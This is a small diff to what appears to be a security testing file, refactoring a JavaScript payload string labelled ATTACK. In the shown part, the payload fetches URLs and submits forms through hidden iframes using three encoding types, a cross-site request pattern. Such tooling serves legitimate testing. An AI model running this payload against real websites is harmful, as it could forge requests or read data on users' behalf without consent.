@@ -45,7 +45,8 @@ ATTACK = """async target => {
             read.push(await (await fetch(url, options)).text());
         } catch {}
     }
-    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
+    const kinds = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
+    for (const enctype of kinds) {
         const frame = add(document.body, "iframe", {name: enctype});
         const form = {method: "post", action: all, enctype, target: enctype};
         const sent = add(document.body, "form", form);
